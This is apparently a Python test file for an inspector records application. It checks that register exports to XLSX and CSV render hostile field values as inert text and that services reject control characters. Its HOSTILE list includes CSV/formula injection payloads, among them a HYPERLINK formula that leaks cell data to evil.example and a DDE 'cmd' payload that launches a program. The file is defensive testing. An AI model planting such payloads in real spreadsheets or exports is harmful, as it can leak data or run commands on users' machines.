"""Hostile field values through every export: never a live formula, never a crash.

Values are written straight into the tables (as an older database, or a package from
elsewhere, may hold them) and exported from every register in both formats; the written
files are read back with openpyxl and the csv module.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from core_factories import appeal_data
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from inspector_app.demo import fill_demo
from inspector_app.errors import ValidationError
from inspector_app.queries.cell_text import csv_field, csv_original, printable, xlsx_text
from inspector_app.queries.export_table import export_register
from inspector_app.queries.registers import REGISTERS, Filters

HOSTILE = [
    "=1+1", '=HYPERLINK("http://evil.example/?"&A1;"Нажмите")', "+7 701 123 45 67",
    "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "'=1+1", "''", "=cmd|' /C calc'!A0",
    "нуль\x00байт", "звонок\x07\x1b[31m", "строка\nвторая\r\nтретья", 'кавычка "; точка;',
    "конец\uffff", "\x7f\x85",
]  # (a lone surrogate cannot even be stored: sqlite3 refuses it; the services refuse it too)
FREE_TEXT = {
    "person": ("surname", "first_name", "patronymic", "address", "notes"),
    "appeal": ("substance", "erdr_number"),
    "offence": ("place", "description", "erap_number"),
    "preventive_visit": ("address_text", "flat", "persons_met", "notes"),
    "registration": ("basis_document", "close_reason", "notes"),
    "meeting": ("place", "questions", "decisions"),
    "feedback": ("comment",),
    "staff": ("full_name", "position"),
}


def _written_texts(path: Path) -> list[str]:
    """Every text cell of an export, as a spreadsheet reads it back."""
    if path.suffix == ".xlsx":
        texts = []
        for row in load_workbook(path).active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
        return texts
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f, delimiter=";"))
    for row in rows:
        for field in row:
            assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), field
    return [csv_original(field) for row in rows for field in row]


@pytest.fixture
def hostile_point(services):
    """A demo-filled point whose every free-text column holds hostile values."""
    fill_demo(services, 120, seed=3, years=1)
    number = 0
    for table, columns in FREE_TEXT.items():
        ids = [r[0] for r in services.db.execute_sql(f'SELECT id FROM "{table}"').fetchall()]
        for record_id in ids:
            for column in columns:
                value = HOSTILE[number % len(HOSTILE)]
                number += 1
                services.db.execute_sql(f'UPDATE "{table}" SET "{column}" = ? WHERE id = ?',
                                        (value, record_id))
    return services


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_every_register_exports_hostile_values_as_inert_text(hostile_point, tmp_path, suffix):
    found = set()
    for name, register in REGISTERS.items():
        out = tmp_path / f"{name}{suffix}"
        rows = export_register(hostile_point, register, Filters(), out)
        assert rows == register.count(Filters()) > 0
        texts = _written_texts(out)
        assert all(printable(t) == t for t in texts)
        clean = xlsx_text if suffix == ".xlsx" else printable
        found |= {h for h in HOSTILE if clean(h) in texts}
    # each hostile value stands alone in some cell, exactly as typed (controls replaced)
    assert found == set(HOSTILE)


@settings(max_examples=60, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(alphabet=st.sampled_from("=+-@'\t\r\n\x00\x01\x0b\x1f\x7f\uffff"
                                              "\"; aбӘ1(),|!"), min_size=1, max_size=12))
@example(text="=HYPERLINK(\"x\")")
def test_any_substance_round_trips_through_both_formats(services, person, tmp_path, text):
    appeal = services.appeals.create(appeal_data(person))
    services.db.execute_sql('UPDATE appeal SET substance = ? WHERE id = ?', (text, appeal.id))
    register = REGISTERS["appeals"]
    column = [c.key for c in register.columns].index("substance")
    xlsx, csv_out = tmp_path / "a.xlsx", tmp_path / "a.csv"
    export_register(services, register, Filters(), xlsx, title=False)
    export_register(services, register, Filters(), csv_out)
    cell = list(load_workbook(xlsx).active.iter_rows(min_row=2))[-1][column]
    assert cell.data_type != "f"
    assert (cell.value or "") == xlsx_text(text)
    with open(csv_out, encoding="utf-8-sig", newline="") as f:
        field = list(csv.reader(f, delimiter=";"))[-1][column]
    assert field == csv_field(text)
    assert not field.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert csv_original(field) == printable(text)
    services.appeals.delete(appeal.id)


@pytest.mark.parametrize("value", ["a\x00b", "\x07", "\x1b[2J", "x\ud800", "\uffff", "\x9b"])
def test_services_refuse_control_characters_naming_the_field(services, person, value):
    with pytest.raises(ValidationError) as caught:
        services.persons.create({"surname": "Ив" + value + "анов", "first_name": "Иван"})
    (error,) = caught.value.errors
    assert (error.field, error.code) == ("surname", "v.control_character")
    assert caught.value.message("ru").startswith("Фамилия: содержит недопустимый")
    assert "U+" in caught.value.message("kk") and "control" in caught.value.message("en")


def test_line_breaks_only_in_multi_line_texts(services, person):
    with pytest.raises(ValidationError) as caught:
        services.persons.create({"surname": "Иванов\nПетров", "first_name": "Иван"})
    assert [(e.field, e.code) for e in caught.value.errors] == [
        ("surname", "v.control_character")]
    created = services.persons.create({"surname": "Иванов", "first_name": "Иван\tИльич",
                                       "notes": "первая\r\nвторая\tстрока\rтретья"})
    # tabs are spaces (runs of spaces collapsed), CR and CRLF are LF
    assert (created.first_name, created.notes) == ("Иван Ильич",
                                                   "первая\nвторая строка\nтретья")
    with pytest.raises(ValidationError) as caught:
        services.persons.create({"surname": "Иванов", "first_name": "Иван",
                                 "notes": "звонок\x07"})
    assert caught.value.errors[0].code == "v.control_character"


@settings(max_examples=80, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(min_size=1, max_size=20))
def test_a_stored_text_is_always_printable(services, text):
    data = {"surname": "Иванов", "first_name": "Иван", "patronymic": text, "notes": text}
    try:
        created = services.persons.create(data)
    except ValidationError as exc:
        assert {e.code for e in exc.errors} <= {"v.control_character", "v.too_long"}
        return
    for value in (created.patronymic, created.notes):
        assert printable(value) == value and "\r" not in value
    services.persons.delete(created.id)
